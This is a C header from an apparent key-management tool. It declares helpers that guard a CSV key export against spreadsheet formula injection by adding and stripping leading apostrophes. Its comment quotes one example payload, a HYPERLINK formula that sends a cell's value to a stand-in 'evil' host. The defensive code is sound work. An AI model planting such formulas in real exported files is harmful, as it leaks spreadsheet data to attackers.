/*
 * sup_csvcell.h - spreadsheet formula cells in the key export (CSV
 * injection): a label an importer or enroller chose, such as
 * =HYPERLINK("https://evil/?"&A1,"x"), runs as a formula when an auditor
 * opens `keysup key export` in a spreadsheet. A cell that starts with
 * = + - @ (or a tab or CR, which spreadsheets skip before a formula) is
 * written with a leading apostrophe, which spreadsheets show as text.
 *
 * The import reads the export back, so the escape is undone there: a label
 * matching ^'*[=+-@TAB CR] is written with one more apostrophe, and one
 * matching ^'+[=+-@TAB CR] loses one when read. Every label survives the
 * round trip exactly, the ones that already began with apostrophes too.
 */
#ifndef KEYSUP_SUP_CSVCELL_H
#define KEYSUP_SUP_CSVCELL_H

#include <stddef.h>

/* 1 when the n bytes of t must be written with a leading apostrophe. */
int sup_csv_needs_quote(const char *t, size_t n);
/* 1 when the n bytes of t read from a CSV file carry that apostrophe. */
int sup_csv_quoted(const char *t, size_t n);

#endif
